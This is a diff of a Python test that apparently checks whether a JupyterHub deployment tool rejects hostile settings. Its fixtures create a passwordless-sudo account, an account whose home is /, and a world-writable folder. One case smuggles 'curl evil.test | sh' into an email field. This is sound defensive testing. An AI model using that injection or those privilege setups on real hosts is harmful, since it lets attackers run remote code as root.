@@ -228,9 +228,17 @@ def test_hostile_settings_stop_the_run_and_leave_the_host_byte_for_byte_unchange
     hub = hubs["bookworm"]
     # An existing sudo-capable account, as a careless admin might name it.
     hub.sh("id opadmin >/dev/null 2>&1 || useradd -m -G sudo opadmin")
+    # The deploy's own kind of login: root's rights through a rule of its own in sudoers.d (no group).
+    hub.sh(
+        "id deployer >/dev/null 2>&1 || { useradd -m deployer"
+        " && echo 'deployer ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/deployer && chmod 440 /etc/sudoers.d/deployer; }"
+    )
+    # An account whose home is / (a service account an admin took for a person), and an HPC-style
+    # scratch folder anyone may write.
+    hub.sh("id rooted >/dev/null 2>&1 || useradd -d / -M rooted; mkdir -p /scratch && chmod 1777 /scratch")
     key = workdir / "not-a-ca.pem"
     key.write_text(hub.sh("openssl genpkey -algorithm ed25519"))
-    paths = ("/opt/jupyter", "/etc")
+    paths = ("/opt/jupyter", "/etc", "/scratch")
     volatile = ("*.sqlite", "*.sqlite-*", "*.pid", "/etc/machine-id", "/etc/mtab", "/etc/resolv.conf")
     before = hub.snapshot(*paths, exclude=volatile)
     cases = {
@@ -245,6 +253,17 @@ def test_hostile_settings_stop_the_run_and_leave_the_host_byte_for_byte_unchange
         "jh_extra_ca_certificates": {"jh_extra_ca_certificates": [str(key)]},
         "jh_services": {"jh_services": [{"path": "/api2/", "upstream": "http://127.0.0.1:8081/"}]},
         "jh_acme_email": {"jh_acme_email": "root@x.test; curl evil.test | sh"},
+        # Well-formed, and dangerous.
+        "sudo lets deployer run": {"jh_users": [*hub.data["jh_users"], {"name": "deployer"}]},
+        "rooted's home is /": {"jh_users": [*hub.data["jh_users"], {"name": "rooted"}]},
+        "jh_install_root: /scratch is not a folder only root can change": {"jh_install_root": "/scratch/jupyter"},
+        "jh_notify_command: root runs /opt/jupyter/state/notify": {
+            "jh_notify_on_failure": True,
+            "jh_notify_command": "/opt/jupyter/state/notify",
+        },
+        "and jh_shared_dirs[0] (/opt/miniconda3) overlap": {
+            "jh_shared_dirs": [{"path": "/opt/miniconda3", "mode": "read-only"}]
+        },
     }
     for setting, bad in cases.items():
         inventory = write_inventory(workdir / "hostile.py", [(hub.name, {**hub.data, **bad})])
